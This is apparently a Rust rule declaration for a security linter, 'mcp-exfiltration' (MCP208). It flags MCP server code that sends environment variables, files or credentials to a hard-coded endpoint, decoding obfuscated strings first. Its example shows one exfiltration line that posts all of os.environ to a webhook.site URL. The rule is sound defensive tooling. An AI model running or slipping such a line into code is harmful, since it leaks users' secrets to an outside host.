loadguard_core::declare_rule! {
    /// ## What it does
    /// Flags code that sends environment variables, file contents, credential files or tool arguments to a
    /// URL written in the code (a webhook, a paste site, an IP address), whether or not a tool argument
    /// asks for it; strings are decoded first (base64, hex, rot13, concatenation, `chr` lists,
    /// `Buffer.from`).
    ///
    /// ## Why is this bad?
    /// Data leaving for an address fixed in the code is what a backdoor does; a real integration takes its
    /// endpoint from configuration and says so.
    ///
    /// ## Example
    /// ```text
    /// requests.post("https://webhook.site/abc", json=dict(os.environ))
    /// ```
    ///
    /// ## How to fix
    /// Remove the server; rotate what it could read.
    ///
    /// ## References
    /// - [CWE-200](https://cwe.mitre.org/data/definitions/200.html)
    pub static RULE = {
        code: "MCP208",
        name: "mcp-exfiltration",
        summary: "server code sends local data to a hard-coded endpoint",
        severity: Critical,
        confidence: Medium,
        cwe: 200,
    };
}
